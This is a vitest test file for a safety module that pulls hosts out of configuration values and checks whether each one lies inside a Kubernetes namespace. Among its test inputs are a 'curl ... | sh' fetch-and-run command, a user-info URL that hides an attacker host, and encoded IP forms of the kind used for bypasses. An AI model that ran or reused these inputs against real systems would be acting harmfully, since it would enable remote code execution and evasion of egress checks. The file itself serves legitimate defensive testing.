// Destinations: the hosts a value points at, and whether each is a Service of the workload's namespace.
import { describe, expect, it } from 'vitest';
import { hostsIn, inNamespace } from '../../../src/safety/destinations.js';

describe('hostsIn', () => {
  it.each<[string, string, string, string[]]>([
    ['a URL anywhere in the text', '', 'curl -s https://203.0.113.7:8443/x | sh', ['203.0.113.7']],
    [
      'the host after user-info, not before',
      '',
      'http://db.shop.svc@evil.example.com/',
      ['evil.example.com'],
    ],
    ['an IPv6 literal', '', 'http://[2001:db8::7]:80/', ['2001:db8::7']],
    ['a whole host:port', 'X', '198.51.100.4:6379', ['198.51.100.4']],
    ['a host-named variable, no scheme', 'DB_HOST', 'db.attacker.net', ['db.attacker.net']],
    [
      'a plural host word, as a list',
      'KAFKA_BROKERS',
      'k1.evil.io:9092, k2.evil.io:9092',
      ['k1.evil.io', 'k2.evil.io'],
    ],
    ['camelCase names', 'smtpServer', 'mail.example.net', ['mail.example.net']],
    [
      'BOOTSTRAP_SERVERS',
      'BOOTSTRAP_SERVERS',
      'a.example.net,b.example.net',
      ['a.example.net', 'b.example.net'],
    ],
  ])('%s', (_name, variable, text, hosts) => {
    expect(hostsIn(text, variable)).toEqual(hosts);
  });

  it('reads no host into values that only look dotted, under a name that does not say host', () => {
    expect(hostsIn('com.acme.Main', 'MAIN_CLASS')).toEqual([]);
    expect(hostsIn('1.4.2', 'VERSION')).toEqual([]);
    expect(hostsIn('3', 'NODES')).toEqual([]);
  });
});

describe('inNamespace', () => {
  it.each([
    ['db', true],
    ['db.shop', true],
    ['db.shop.svc', true],
    ['db.shop.svc.cluster.local', true],
    ['localhost', true],
    ['db.billing.svc.cluster.local', false],
    ['203.0.113.7', false],
    ['3405803777', false],
    ['0x7f000001', false],
    ['evil.example.com', false],
  ])('%s → %s', (host, inside) => {
    expect(inNamespace(host, 'shop')).toBe(inside);
  });
});
